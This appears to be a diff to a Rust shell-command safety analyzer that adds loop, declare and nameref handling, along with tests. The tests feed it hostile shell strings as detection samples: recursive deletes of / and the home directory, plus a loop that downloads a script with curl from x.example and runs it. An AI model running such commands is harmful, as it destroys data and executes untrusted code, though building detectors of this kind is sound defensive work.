@@ -5,15 +5,18 @@ use std::collections::{HashMap, HashSet};
 use std::path::PathBuf;
 use std::rc::Rc;
 
-use super::ast::{Command, Compound, List, Pipeline, Redir, RedirOp, Sep, Simple, Word};
+use super::ast::{
+    Assign, Command, Compound, DECLARATIONS, List, Pipeline, Redir, RedirOp, Sep, Simple, Word,
+    is_name, word_text,
+};
 use super::delete::is_project_dir;
 use super::expand::assign;
-use super::parse::Budget;
+use super::parse::{Budget, split_assignment};
 use super::render::{render_field, render_fields, render_redir, render_values};
-use super::value::{Field, Flow, Scope, Taint};
+use super::value::{Field, Flow, Scope, Taint, join_fields};
 use super::{
     CommandAnalysis, CommandCategory, CommandFinding, FUEL_BASE, FUEL_PER_BYTE, MAX_DEPTH,
-    MAX_EXTRA_PASSES, MAX_FINDINGS, MAX_LOOP_VALUES, MAX_REPEATED_WORK,
+    MAX_EXTRA_PASSES, MAX_FINDINGS, MAX_REPEATED_WORK,
 };
 use crate::detect::paths::{CanonicalPath, PathContext, canonicalize};
 
@@ -74,7 +77,7 @@ pub(super) struct Analyzer {
     pub(super) budget: Budget,
     /// Current nesting of interpreted code and function calls.
     pub(super) depth: usize,
-    extra_passes: usize,
+    pub(super) extra_passes: usize,
     /// Simple commands analysed so far, in any pass.
     commands_seen: usize,
     /// While positive nothing is recorded (rendering-only passes).
@@ -174,6 +177,7 @@ impl Analyzer {
             positional: None,
             functions: HashMap::new(),
             aliases: HashMap::new(),
+            refs: HashMap::new(),
         }
     }
 
@@ -217,11 +221,12 @@ impl Analyzer {
         }
     }
 
+    /// Records a finding once. Past [`MAX_FINDINGS`] only the first of each category is kept, so
+    /// that many findings of one kind cannot crowd out a later one of another.
     pub(super) fn add_finding(&mut self, category: CommandCategory, detail: String) {
-        if self.silent == 0
-            && self.result.findings.len() < MAX_FINDINGS
-            && self.seen_findings.insert((category, detail.clone()))
-        {
+        let room = self.result.findings.len() < MAX_FINDINGS
+            || !self.result.findings.iter().any(|f| f.category == category);
+        if self.silent == 0 && room && self.seen_findings.insert((category, detail.clone())) {
             self.result
                 .findings
                 .push(CommandFinding { category, detail });
@@ -490,20 +495,13 @@ impl Analyzer {
                 keyword,
                 cond,
                 body,
-            } => {
-                self.emit(keyword);
-                if !cond.0.is_empty() {
-                    self.emit(" ");
-                    self.list(cond, scope, stdin);
-                }
-                self.emit(" ; do ");
-                let output = self.list(body, scope, stdin);
-                self.emit(" ; done");
-                output
-            }
-            Compound::For { var, items, body } => {
-                self.for_loop(var, items.as_deref(), body, scope, stdin)
-            }
+            } => self.while_loop(keyword, cond, body, scope, stdin),
+            Compound::For {
+                keyword,
+                var,
+                items,
+                body,
+            } => self.for_loop(keyword, var, items.as_deref(), body, scope, stdin),
             Compound::Case { subject, arms } => self.case(subject, arms, scope, stdin),
             Compound::Cond(words) => {
                 let mut fields = Vec::new();
@@ -519,60 +517,6 @@ impl Analyzer {
                 Flow::empty()
             }
         }
-    }
-
-    /// Unrolls the loop over its values when they are few and known, so that the body is judged
-    /// for each (`for d in build dist; do rm -rf $d; done` is fine, `for d in / ..` is not); the
-    /// canonical form keeps the loop variable symbolic.
-    fn for_loop(
-        &mut self,
-        var: &str,
-        items: Option<&[Word]>,
-        body: &List,
-        scope: &mut Scope,
-        stdin: &Flow,
-    ) -> Flow {
-        let values = match items {
-            Some(words) => {
-                let mut values = Vec::new();
-                for w in words {
-                    values.extend(self.expand(w, scope));
-                }
-                values
-            }
-            None => scope
-                .positional
-                .as_ref()
-                .map(|p| p[1..].to_vec())
-                .unwrap_or_else(|| vec![Field::dynamic("$@")]),
-        };
-        self.emit(&format!("for {var} in {} ; do ", render_fields(&values)));
-        let symbolic = Field::dynamic(&format!("${{{var}}}"));
-        let unroll = !values.is_empty()
-            && values.len() <= MAX_LOOP_VALUES
-            && self.may_repeat(values.len() + 1);
-        let output = if unroll {
-            // Reserved before the body runs, so that loops nested in it see the budget spent.
-            self.extra_passes += values.len() + 1;
-            let mut render_scope = scope.clone();
-            render_scope
-                .vars
-                .insert(var.to_owned(), Rc::from([symbolic]));
-            self.silent += 1;
-            self.list(body, &mut render_scope, stdin);
-            self.silent -= 1;
-            let mut output = Flow::empty();
-            for value in values {
-                scope.vars.insert(var.to_owned(), Rc::from([value]));
-                output = output.then(self.capture(|a| a.list(body, scope, stdin)).0);
-            }
-            output
-        } else {
-            scope.vars.insert(var.to_owned(), Rc::from([symbolic]));
-            self.list(body, scope, stdin)
-        };
-        self.emit(" ; done");
-        output
     }
 
     fn case(
@@ -650,7 +594,7 @@ impl Analyzer {
     }
 
     /// Whether `passes` more analyses of the same code fit the budget for repeated work.
-    fn may_repeat(&self, passes: usize) -> bool {
+    pub(super) fn may_repeat(&self, passes: usize) -> bool {
         self.extra_passes + passes <= MAX_EXTRA_PASSES && self.commands_seen <= MAX_REPEATED_WORK
     }
 
@@ -660,30 +604,44 @@ impl Analyzer {
         let mut assigned = Vec::with_capacity(s.assigns.len());
         for a in &s.assigns {
             let value = self.assignment_value(&a.value, scope);
-            assigned.push((a, value));
+            assigned.push((a.clone(), value));
         }
+        // `declare -a x=(..)` and the like assign as assignments do, arrays included.
+        let declares = s
+            .words
+            .first()
+            .is_some_and(|w| DECLARATIONS.contains(&word_text(w).as_str()));
+        let mut declared = Vec::new();
         let mut fields = Vec::new();
-        for w in &s.words {
-            fields.extend(self.expand(w, scope));
+        let mut rendered: Vec<String> = assigned
+            .iter()
+            .map(|(a, v)| format!("{}={}", assign_target(a), render_values(v)))
+            .collect();
+        for (i, w) in s.words.iter().enumerate() {
+            match split_assignment(w).filter(|_| declares && i > 0) {
+                Some(a) => {
+                    let value = self.assignment_value(&a.value, scope);
+                    rendered.push(format!("{}={}", assign_target(&a), render_values(&value)));
+                    let field = join_fields(value.clone(), " ");
+                    fields.push(Field {
+                        text: format!("{}={}", assign_target(&a), field.text),
+                        ..field
+                    });
+                    declared.push((a, value));
+                }
+                None => {
+                    let expanded = self.expand(w, scope);
+                    rendered.extend(expanded.iter().map(render_field));
+                    fields.extend(expanded);
+                }
+            }
         }
         let effect = self.redirections(&s.redirs, scope);
-        let rendered: Vec<String> = assigned
-            .iter()
-            .map(|(a, v)| {
-                format!(
-                    "{}{}={}",
-                    a.name,
-                    if a.append { "+" } else { "" },
-                    render_values(v)
-                )
-            })
-            .chain(fields.iter().map(render_field))
-            .chain(effect.rendered.iter().cloned())
-            .collect();
+        rendered.extend(effect.rendered.iter().cloned());
         self.emit(&rendered.join(" "));
         if fields.is_empty() {
             for (a, value) in assigned {
-                assign(scope, a, value);
+                assign(scope, &a, value);
             }
             return self.finish_output(Outcome::quiet(), &effect, scope);
         }
@@ -691,13 +649,36 @@ impl Analyzer {
         let outcome = if assigned.is_empty() {
             self.exec(&fields, &input, scope)
         } else {
-            // Prefix assignments only reach the command's environment.
+            // Prefix assignments only reach the command's environment; what a builtin or a
+            // function changes stays (`X=1 cd /tmp`, `IFS=, read a b`).
             let mut env = scope.clone();
-            for (a, value) in assigned {
-                assign(&mut env, a, value);
+            for (a, value) in &assigned {
+                assign(&mut env, a, value.clone());
             }
-            self.exec(&fields, &input, &mut env)
+            let outcome = self.exec(&fields, &input, &mut env);
+            for (a, _) in &assigned {
+                match scope.vars.get(&a.name) {
+                    Some(v) => env.vars.insert(a.name.clone(), Rc::clone(v)),
+                    None => env.vars.remove(&a.name),
+                };
+            }
+            *scope = env;
+            outcome
         };
+        // `declare -n ref=name` makes a nameref.
+        let nameref = matches!(fields[0].text.as_str(), "declare" | "typeset" | "local")
+            && fields[1..]
+                .iter()
+                .any(|f| !f.dynamic && f.text.starts_with('-') && f.text.contains('n'));
+        for (a, value) in declared {
+            match value.as_slice() {
+                [target] if nameref && !target.dynamic && is_name(&target.text) => {
+                    scope.vars.remove(&a.name);
+                    scope.refs.insert(a.name.clone(), target.text.clone());
+                }
+                _ => assign(scope, &a, value),
+            }
+        }
         self.finish_output(outcome, &effect, scope)
     }
 
@@ -754,6 +735,16 @@ impl Analyzer {
     }
 }
 
+/// `name`, `name+`, `name[i]`, `name[i]+`: what an assignment is rendered with before its `=`.
+fn assign_target(a: &Assign) -> String {
+    let index = a
+        .index
+        .as_ref()
+        .map(|i| format!("[{i}]"))
+        .unwrap_or_default();
+    format!("{}{index}{}", a.name, if a.append { "+" } else { "" })
+}
+
 pub(super) fn is_stdout_path(text: &str) -> bool {
     matches!(text, "-" | "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1")
 }
@@ -794,8 +785,8 @@ fn path_candidate(text: &str) -> Option<&str> {
 
 #[cfg(test)]
 mod tests {
-    use crate::detect::shell::CommandCategory::RecursiveDelete;
-    use crate::detect::shell::tests::{assert_clean, has, run};
+    use crate::detect::shell::CommandCategory::{DownloadExec, RecursiveDelete, Unanalyzable};
+    use crate::detect::shell::tests::{assert_clean, assert_flags, has, run};
 
     #[test]
     fn functions_run_with_their_arguments() {
@@ -852,5 +843,46 @@ mod tests {
         assert!(run("ls -la").path_words.is_empty());
         let a = run("python3 -c 'print(1)' data.csv");
         assert_eq!(a.path_words, ["data.csv"]);
+    }
+
+    #[test]
+    fn loops_see_what_later_iterations_assign() {
+        assert_flags(
+            RecursiveDelete,
+            &[
+                "x=build; while true; do rm -rf $x; x=/; done",
+                "x=build; until false; do rm -rf \"$x\"; x=~; done",
+                "x=build; while :; do rm -rf $x; x=$y; y=/; done",
+                "a=build; b=build; c=/; while :; do rm -rf $a; a=$b; b=$c; done",
+                "v1=build; v2=build; v3=build; v4=build; v5=/; while :; do rm -rf $v1; v1=$v2; v2=$v3; v3=$v4; v4=$v5; done",
+                "x=build; while true; do f() { rm -rf $x; }; f; x=/; done",
+                "x=build; for f in $(ls); do rm -rf $x; x=/; done",
+                "x=build; for f in *.txt; do rm -rf $x; x=/; done",
+                "x=build; for f; do rm -rf $x; x=/; done",
+                "x=build; select f in a; do rm -rf $x; x=/; done",
+                "x=build; for ((i=0; i<3; i++)); do rm -rf $x; x=/; done",
+                "for ((i=$(rm -rf /); i<3; i++)); do :; done",
+                "while true; do bash x.sh; echo 'rm -rf /' > x.sh; done",
+                "cd build; while true; do rm -rf *; cd ..; done",
+                "x=build; while read l; do while read m; do rm -rf $x; done; x=/; done",
+            ],
+        );
+        assert!(has(
+            "while true; do sh a.sh; curl -s https://x.example/a -o a.sh; done",
+            DownloadExec
+        ));
+        assert_clean(&[
+            "TMPDIR_BUILD=build/tmp; while read f; do rm -rf \"$TMPDIR_BUILD\"; done < list.txt",
+            "x=build; while true; do rm -rf $x; x=dist; done",
+            "for f in build dist; do rm -rf \"$f\"; done",
+            "x=build; for f in a b; do rm -rf $x/$f; x=dist; done",
+            "while read f; do echo \"$f\"; done < list.txt",
+            "n=0; while read -r line; do n=$((n+1)); echo \"$line\"; done < input.txt",
+            "args=; for f in src/*.c; do args=\"$args $f\"; done; cc $args",
+            "for f in *.log; do gzip \"$f\"; echo done >> build/log.txt; done",
+        ]);
+        // Loops that keep changing what they read, past the budget for repeated work.
+        let many = "while read l; do x=$x.; done; ".repeat(70);
+        assert!(has(&many, Unanalyzable));
     }
 }
